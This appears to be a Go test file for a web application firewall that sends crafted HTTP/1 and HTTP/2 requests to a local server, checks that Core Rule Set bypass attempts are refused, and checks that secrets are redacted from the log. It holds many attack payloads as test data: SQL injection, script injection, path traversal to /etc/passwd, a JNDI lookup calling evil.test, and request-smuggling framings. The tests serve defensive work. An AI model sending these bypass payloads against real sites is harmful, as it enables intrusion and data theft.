package test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"gatehouse/waf/record"
)

const behindCRS = `
listen: [{address: "127.0.0.1:0", tls: {certificates: internal}}, {address: "127.0.0.1:00"}]
waf:
  edge:
    inspect-body: {limit: 16KiB}
    log: {file: waf.log, redact: {headers: [x-person], cookies: [lang]}}
    rules: [{name: crs, core-rule-set: {paranoia: 1}}]
apis:
  shop:
    domains: [localhost]
    authorize: none
    waf: edge
    routes: [{match: "ANY /{proxy*}", target: "%s"}]
`

// What attackers do to a request as it goes over the wire so that the rules and
// the service read different things: each is refused, by a rule or before any.
func TestCoreRuleSetBypasses(t *testing.T) {
	backend := newBackend(t, "a")
	r := start(t, fmt.Sprintf(behindCRS, backend.URL), nil)
	address := r.address("127.0.0.1:00")
	const usual = "Host: localhost\r\nUser-Agent: test/1\r\nAccept: */*\r\n"
	const form = usual + "Content-Type: application/x-www-form-urlencoded\r\n"
	const sql = "q=1%27%20union%20select%20password%20from%20users"
	get := func(target string) string { return "GET " + target + " HTTP/1.1\r\n" + usual + "\r\n" }
	post := func(head, body string) string {
		return fmt.Sprintf("POST / HTTP/1.1\r\n%sContent-Length: %d\r\n\r\n%s", head, len(body), body)
	}
	for _, test := range []struct{ name, text string }{
		{"query", get("/?" + sql)},
		{"query in an absolute target", "GET http://localhost/?" + sql + " HTTP/1.1\r\n" + usual + "\r\n"},
		{"encoded twice", get("/?q=%253Cscript%253Ealert(1)%253C/script%253E")},
		{"mixed encodings", get("/?q=%u003cscr%69pt%3ealert(1)%3c/script>")},
		{"overlong UTF-8 in a path", get("/%c0%ae%c0%ae/etc/passwd")},
		{"dots", get("/a/../../etc/passwd")},
		{"dots, encoded", get("/a/%2e%2e/%2e%2e/etc/passwd")},
		{"dots, encoded twice", get("/a/%252e%252e/etc/passwd")},
		{"dots in a query", get("/?file=../../../../etc/passwd")},
		{"a parameter behind dots", get("/a/..;/admin")},
		{"backslashes", get("/a\\..\\etc\\passwd")},
		{"null byte in a path", get("/a%00.png")},
		{"null byte in a query", get("/?file=a%00.png%27%20union%20select%20password%20from%20users")},
		{"null byte in a header", "GET / HTTP/1.1\r\n" + usual + "X-A: b\x00c\r\n\r\n"},
		{"folded header", "GET / HTTP/1.1\r\n" + usual + "X-A: b\r\n <script>alert(1)</script>\r\n\r\n"},
		{"attack in a header", "GET / HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nUser-Agent: ${jndi:ldap://evil.test/a}\r\n\r\n"},
		{"attack in a cookie", "GET / HTTP/1.1\r\n" + usual + "Cookie: a=b; c=%3Cscript%3Ealert(1)%3C/script%3E\r\n\r\n"},
		{"cookies in two fields", "GET / HTTP/1.1\r\n" + usual + "Cookie: a=b\r\nCookie: c=<script>alert(1)</script>\r\n\r\n"},
		{"the name twice", get("/?q=1&q=%27%20union%20select%20password%20from%20users")},
		{"body", post(form, sql)},
		{"body in small chunks", "POST / HTTP/1.1\r\n" + form + "Transfer-Encoding: chunked\r\n\r\n" + inChunks(sql, 1) + "0\r\n\r\n"},
		{"chunks with extensions", "POST / HTTP/1.1\r\n" + form + "Transfer-Encoding: chunked\r\n\r\n" + strings.ReplaceAll(inChunks(sql, 7), "7\r\n", "7;a=b\r\n") + "0\r\n\r\n"},
		{"both framings", "POST / HTTP/1.1\r\n" + form + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + inChunks(sql, 9) + "0\r\n\r\n"},
		{"two lengths", "POST / HTTP/1.1\r\n" + form + "Content-Length: 3\r\nContent-Length: 50\r\n\r\n" + sql},
		{"trailer with an attack's field", "POST / HTTP/1.1\r\n" + form + "Transfer-Encoding: chunked\r\nTrailer: X-A\r\n\r\n" + inChunks(sql, 9) + "0\r\nX-A: b\r\n\r\n"},
		{"two types", post(form+"Content-Type: text/plain\r\n", sql)},
		{"another charset", post(usual+"Content-Type: application/x-www-form-urlencoded; charset=ibm500\r\n", "q=1")},
		{"no type", post(usual, sql)},
		{"padding before the payload", post(form, strings.Repeat("a=b&", 3000)+sql)},
		{"padding beyond the limit", post(form, "a="+strings.Repeat("b", 20_000)+"&"+sql)},
		{"padding beyond the limit, in chunks", "POST / HTTP/1.1\r\n" + form + "Transfer-Encoding: chunked\r\n\r\n" + inChunks("a="+strings.Repeat("b", 20_000)+"&"+sql, 1000) + "0\r\n\r\n"},
		{"compressed", post(form+"Content-Encoding: gzip\r\n", sql)},
		{"compressed twice", post(form+"Content-Encoding: gzip, gzip\r\n", sql)},
		{"a method of another name", post(form+"X-HTTP-Method-Override: DELETE\r\n", sql)},
		{"another path in a header", "GET / HTTP/1.1\r\n" + usual + "X-Original-URL: /?" + sql + "\r\nX-A: <script>alert(1)</script>\r\n\r\n"},
		{"Apache's own requests", "GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Apache (internal dummy connection)\r\nCookie: a=<script>alert(1)</script>\r\n\r\n"},
	} {
		if a := raw(t, address, test.text); a.status < 400 || a.status >= 500 || a.err != nil {
			t.Errorf("%s: %d %v\n%s", test.name, a.status, a.err, a.body)
		}
	}
}

// inChunks writes a body in chunks of n bytes, without the last one.
func inChunks(body string, n int) string {
	var b strings.Builder
	for body != "" {
		part := body[:min(n, len(body))]
		body = body[len(part):]
		fmt.Fprintf(&b, "%x\r\n%s\r\n", len(part), part)
	}
	return b.String()
}

// What passes the rules arrives as it was inspected.
func TestCoreRuleSetPassesOn(t *testing.T) {
	backend := newBackend(t, "a")
	r := start(t, fmt.Sprintf(behindCRS, backend.URL), nil)
	body := `{"name": "Jürgen", "items": [1, 2, 3], "note": "` + strings.Repeat("tea and cake ", 500) + `"}`
	head := "POST /orders/7?x=%C3%BC HTTP/1.1\r\nHost: localhost\r\nUser-Agent: test/1\r\nAccept: */*\r\nContent-Type: application/json\r\n"
	for name, text := range map[string]string{
		"whole":   fmt.Sprintf("%sContent-Length: %d\r\n\r\n%s", head, len(body), body),
		"chunked": head + "Transfer-Encoding: chunked\r\n\r\n" + inChunks(body, 100) + "0\r\n\r\n",
	} {
		a := raw(t, r.address("127.0.0.1:00"), text)
		var got seen
		if err := json.Unmarshal([]byte(a.body), &got); err != nil || a.status != 200 {
			t.Fatalf("%s: %d %v %s", name, a.status, err, a.body)
		}
		if got.Body != body || got.URI != "/orders/7?x=%C3%BC" {
			t.Errorf("%s: %s %q", name, got.URI, got.Body)
		}
	}
}

// HTTP/2 hides what HTTP/1 would show in other places: its pseudo-fields, and
// cookies in many pieces.
func TestCoreRuleSetHTTP2(t *testing.T) {
	backend := newBackend(t, "a")
	r := start(t, fmt.Sprintf(behindCRS, backend.URL), nil)
	for _, test := range []struct {
		name   string
		fields [][2]string
	}{
		{"path", [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"}}},
		{"raw path", [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/?q=<script>alert(1)</script>"}}},
		{"method", [][2]string{{":method", "GET /?q=<script> HTTP/1.1"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/"}}},
		{"scheme", [][2]string{{":method", "GET"}, {":scheme", "<script>alert(1)</script>"}, {":authority", "localhost"}, {":path", "/"}}},
		{"authority", [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost<script>"}, {":path", "/"}}},
		{"host beside authority", [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/"}, {"host", "evil.test"}}},
		{"cookies in pieces", [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/"}, {"cookie", "a=b"}, {"cookie", "c=<script>alert(1)</script>"}}},
		{"a length that is none", [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/"}, {"content-length", "5, 6"}}},
		{"a pseudo-field behind others", [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {"a", "b"}, {":path", "/"}}},
	} {
		if o := r.dialFrames(t).ask(stream{fields: test.fields}); !o.refused() {
			t.Errorf("%s: %s %s", test.name, o.status, o.body)
		}
	}
	o := r.dialFrames(t).ask(stream{fields: [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/?q=tea"}, {"user-agent", "test/1"}, {"accept", "*/*"}, {"cookie", "a=b"}, {"cookie", "c=d"}}})
	if o.status != "200" {
		t.Errorf("%s %s", o.status, o.body)
	}
}

// The log holds AWS WAF's record of each request, and nothing secret.
func TestWAFLog(t *testing.T) {
	backend := newBackend(t, "a")
	r := start(t, fmt.Sprintf(behindCRS, backend.URL), nil)
	headers := "Host: localhost\r\nUser-Agent: test/1\r\nAccept: */*\r\nAuthorization: Bearer hush1\r\nCookie: sid=hush2; lang=hush3\r\nX-Person: hush4\r\n"
	raw(t, r.address("127.0.0.1:00"), "GET /?page=2&token=hush5 HTTP/1.1\r\n"+headers+"\r\n")
	blocked := raw(t, r.address("127.0.0.1:00"), "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E&password=%3Cscript%3Ehush6 HTTP/1.1\r\n"+headers+"\r\n")
	r.stop()
	text := string(r.read("waf.log"))
	if i := strings.Index(text, "hush"); i >= 0 {
		t.Errorf("the log holds %s in\n%s", text[i:i+5], text)
	}
	records, err := record.Read(strings.NewReader(text))
	if err != nil || len(records) != 2 {
		t.Fatalf("%d records, %v", len(records), err)
	}
	if rec := records[0]; rec.Action != "ALLOW" || rec.Rule != "Default_Action" || len(rec.Groups) != 0 || rec.Request.Args != "page=2&token=REDACTED" {
		t.Errorf("%+v", rec)
	}
	rec := records[1]
	if rec.Action != "BLOCK" || rec.Rule != "crs" || rec.RuleType != "MANAGED_RULE_GROUP" || len(rec.Groups) != 1 || rec.Groups[0].Score < 5 {
		t.Fatalf("%+v", rec)
	}
	if rec.Request.ID != blocked.header.Get("X-Amzn-Requestid") || rec.Request.ClientIP != "127.0.0.1" || rec.Request.Method != http.MethodGet || rec.Request.Version != "HTTP/1.1" {
		t.Errorf("%+v", rec.Request)
	}
	var where []string
	for _, m := range rec.Groups[0].NonTerminating {
		for _, d := range m.Details {
			where = append(where, m.ID+" "+d.Target+" "+strings.Join(d.Data, "|"))
		}
	}
	if all := strings.Join(where, "\n"); !strings.Contains(all, "941110 ARGS:q <script>|<script>alert(1)</script>") || !strings.Contains(all, "941110 ARGS:password REDACTED") {
		t.Errorf("%s", all)
	}
}
